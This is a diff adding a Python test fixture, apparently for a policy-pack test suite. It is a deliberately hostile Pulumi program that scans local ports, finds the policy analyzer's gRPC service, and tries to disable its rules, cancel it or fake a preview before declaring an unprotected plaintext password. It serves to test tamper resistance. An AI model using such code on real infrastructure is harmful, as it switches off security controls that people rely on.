@@ -1,0 +1,73 @@
+"""A hostile Pulumi program: finds the policy pack that judges it and tries to talk it round, then does what is refused.
+
+Run by `test_hostile_program.py`. It tries every port that listens on loopback, as any program of the same user can.
+"""
+
+import os
+import socket
+from pathlib import Path
+
+import grpc
+import pulumi
+import pulumiverse_vercel as vercel
+from google.protobuf.empty_pb2 import Empty
+from pulumi.runtime.proto import analyzer_pb2 as pb
+from pulumi.runtime.proto.analyzer_pb2_grpc import AnalyzerStub
+
+LISTENING = "0A"
+LOOPBACK = ("0100007F", "0000000000000000FFFF00000100007F", "00000000000000000000000001000000")
+
+
+def listening_ports() -> set[int]:
+    rows = [row.split() for table in ("tcp", "tcp6") for row in Path("/proc/net", table).read_text().splitlines()[1:]]
+    sockets = [row[1].split(":") for row in rows if row[3] == LISTENING]
+    return {int(port, 16) for address, port in sockets if address in LOOPBACK}
+
+
+def speaks_http2(port: int) -> bool:
+    with socket.create_connection(("127.0.0.1", port), timeout=1) as connection:
+        connection.settimeout(1)
+        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00")
+        try:
+            return len(connection.recv(9)) == 9
+        except OSError:
+            return False
+
+
+def talk_round(stub: AnalyzerStub) -> str:
+    """What the environment asks for: switch every rule off, or end the pack, or claim that this is a preview."""
+    attack = os.environ.get("ATTACK", "")
+    if attack == "cancel":
+        stub.Cancel(Empty(), timeout=2)
+    elif attack == "preview":
+        stub.ConfigureStack(pb.AnalyzerStackConfigureRequest(dry_run=True), timeout=2)
+    else:
+        info = stub.GetAnalyzerInfo(Empty(), timeout=2) if attack == "ask-first" else None
+        names = [policy.name for policy in info.policies] if info else ["env-secret-must-be-sensitive", "all"]
+        off = pb.PolicyConfig(enforcementLevel=pb.DISABLED)
+        stub.Configure(pb.ConfigureAnalyzerRequest(policyConfig=dict.fromkeys(names, off)), timeout=2)
+    return "accepted"
+
+
+for port in listening_ports():
+    try:
+        if not speaks_http2(port):
+            continue
+        with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
+            answer = talk_round(AnalyzerStub(channel))
+    except grpc.RpcError as error:
+        answer = error.code().name
+    except OSError:
+        continue
+    # UNIMPLEMENTED is somebody else's port: the engine's or a provider's.
+    if answer not in ("UNIMPLEMENTED", "UNAVAILABLE"):
+        pulumi.log.info(f"attack: {answer}")
+
+vercel.ProjectEnvironmentVariable(
+    "weak",
+    project_id="prj_1",
+    key="DB_PASSWORD",
+    value="hunter2hunter2",
+    sensitive=False,
+    targets=["production"],
+)
